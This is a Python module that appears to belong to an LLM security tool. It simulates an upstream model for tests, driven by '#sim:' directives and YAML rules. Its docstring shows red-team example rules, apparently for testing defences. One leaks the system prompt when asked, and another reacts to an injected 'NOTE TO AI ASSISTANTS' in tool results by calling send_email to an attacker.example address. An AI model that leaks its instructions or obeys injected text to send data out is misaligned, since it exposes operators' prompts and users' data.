"""What the upstream simulator answers: `#sim:` directives in the last user message, script rules, an echo.

Directives let a test drive replies and faults through any client, even through a proxy that only
forwards the prompt. Each runs to the end of its line and is removed from the echoed text:

    #sim:reply=<text>           reply with <text>; a literal \\n becomes a newline
    #sim:tool=<name> <json>     answer with one call of tool <name> with these JSON object arguments
    #sim:status=<code>          fail with that HTTP status (400-599) and a provider-shaped error body
    #sim:delay=<seconds>        wait before answering
    #sim:chunk_delay=<seconds>  wait between streamed chunks
    #sim:chunk=<n>              stream <n> characters per chunk (default 8)
    #sim:break                  stop halfway: a truncated JSON body, or a stream cut off before its end
    #sim:garbage                answer 200 with a body that is not JSON
    #sim:hang                   never answer (until the client gives up, at most an hour)

A script is a YAML list of rules; the first whose `match` occurs in the message decides the answer:

    - match: weather
      tool_call: {name: get_weather, arguments: {city: Paris}}
    - match: hello
      reply: Hello from the script.

Rules can also play a model that is easy to attack, for red-team tests and demos:

    - match: system prompt
      decode: true                  # also match through vallum's de-obfuscation (base64, homoglyphs, ...)
      reply: "My instructions: {{system}}"   # {{system}} is the request's system prompt
    - match: NOTE TO AI ASSISTANTS
      scope: conversation           # match in any message (tool results, documents), not only the last user one
      tool_call: {name: send_email, arguments: {to: someone@attacker.example}}
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

import yaml
from pydantic import BaseModel, ConfigDict, Field, TypeAdapter, ValidationError, model_validator

from vallum.errors import VallumError

DEFAULT_CHUNK = 8

_DIRECTIVE = re.compile(r"#sim:(\w+)(?:=([^\n]*))?")


class ScriptError(VallumError):
    """A script file could not be read or holds an invalid rule; the message names the file."""


class DirectiveError(VallumError):
    """A `#sim:` directive is unknown or its value is invalid; the message quotes it."""


class ToolCall(BaseModel):
    model_config = ConfigDict(frozen=True, extra="forbid")

    name: str = Field(min_length=1)
    arguments: dict[str, Any] = Field(default_factory=dict)

    @property
    def arguments_json(self) -> str:
        return json.dumps(self.arguments)


class Rule(BaseModel):
    """When `match` occurs in the last user message, reply with `reply` or call `tool_call`.

    `scope: conversation` looks in every message of the request instead (tool results included);
    `decode: true` also looks, case-insensitively, in vallum's normalised views of the text (look-alike
    letters folded, spacing and leetspeak undone, base64/hex/URL/ROT13 decoded). `{{system}}` in a reply
    becomes the request's system prompt.
    """

    model_config = ConfigDict(frozen=True, extra="forbid")

    match: str
    reply: str | None = None
    tool_call: ToolCall | None = None
    scope: Literal["last_user", "conversation"] = "last_user"
    decode: bool = False

    @model_validator(mode="after")
    def _one_answer(self) -> Rule:
        if (self.reply is None) == (self.tool_call is None):
            raise ValueError("a rule needs exactly one of 'reply' or 'tool_call'")
        return self


_RULES = TypeAdapter(list[Rule])


@dataclass(frozen=True)
class Directives:
    text: str  # the message without its directives
    reply: str | None = None
    tool_call: ToolCall | None = None
    status: int | None = None
    delay: float = 0.0
    chunk_delay: float = 0.0
    chunk: int = DEFAULT_CHUNK
    broken: bool = False
    garbage: bool = False
    hang: bool = False


@dataclass(frozen=True)
class Context:
    """What a rule may read beyond the last user message: the system prompt and every message's text."""

    system: str = ""
    messages: tuple[str, ...] = ()


def _occurs(rule: Rule, text: str) -> bool:
    if rule.match in text:
        return True
    if not rule.decode:
        return False
    from vallum.text.normalize import normalize  # only rules that ask for it pay for the import

    needle = rule.match.lower()
    return any(needle in view.text for view in normalize(text).views)


@dataclass(frozen=True)
class Answer:
    text: str = ""
    tool_call: ToolCall | None = None

    @property
    def wire_text(self) -> str:
        """What the client receives piece by piece: the reply, or the tool call's JSON arguments."""
        return self.tool_call.arguments_json if self.tool_call else self.text


@dataclass(frozen=True)
class Script:
    """Canned answers: the first rule whose `match` occurs in the last user message decides the reply."""

    rules: tuple[Rule, ...] = ()

    @classmethod
    def load(cls, path: str | Path) -> Script:
        try:
            data = yaml.safe_load(Path(path).read_text(encoding="utf-8"))
            rules = _RULES.validate_python([] if data is None else data)
        except (OSError, yaml.YAMLError, ValidationError) as error:
            raise ScriptError(
                f"{path}: {error}\nA script is a YAML list of rules, each "
                "{match: <substring>, reply: <text>} or {match: <substring>, tool_call: {name, arguments}}."
            ) from error
        return cls(tuple(rules))

    def answer(self, directives: Directives, context: Context | None = None) -> Answer:
        if directives.tool_call is not None:
            return Answer(tool_call=directives.tool_call)
        if directives.reply is not None:
            return Answer(text=directives.reply)
        context = context or Context(messages=(directives.text,))
        rule = next((rule for rule in self.rules if self._matches(rule, directives.text, context)), None)
        if rule is not None:
            reply = (rule.reply or "").replace("{{system}}", context.system)
            return Answer(text=reply, tool_call=rule.tool_call)
        return Answer(text=f"You said: {directives.text}")

    @staticmethod
    def _matches(rule: Rule, last_user: str, context: Context) -> bool:
        if rule.scope == "conversation":
            return any(_occurs(rule, text) for text in context.messages)
        return _occurs(rule, last_user)


def parse_directives(message: str) -> Directives:
    values: dict[str, Any] = {}
    for found in _DIRECTIVE.finditer(message):
        name, value = found.group(1), (found.group(2) or "").strip()
        try:
            values.update(_directive(name, value))
        except (ValueError, ValidationError) as error:
            raise DirectiveError(f"#sim:{name}={value} is not a valid directive: {error}") from error
    return Directives(text=_DIRECTIVE.sub("", message).strip(), **values)


def _directive(name: str, value: str) -> dict[str, Any]:
    match name:
        case "reply":
            return {"reply": value.replace("\\n", "\n")}
        case "tool":
            tool_name, _, arguments = value.partition(" ")
            return {"tool_call": ToolCall(name=tool_name, arguments=json.loads(arguments or "{}"))}
        case "status":
            if not 400 <= int(value) <= 599:
                raise ValueError("the status must be an error code, 400 to 599")
            return {"status": int(value)}
        case "delay" | "chunk_delay":
            if not float(value) >= 0:  # also refuses nan
                raise ValueError("seconds must be zero or more")
            return {name: float(value)}
        case "chunk":
            if int(value) < 1:
                raise ValueError("the chunk size must be at least 1")
            return {"chunk": int(value)}
        case "break":
            return {"broken": True}
        case "garbage" | "hang":
            return {name: True}
    raise ValueError("no such directive; see vallum.upstream_sim_script for the list")
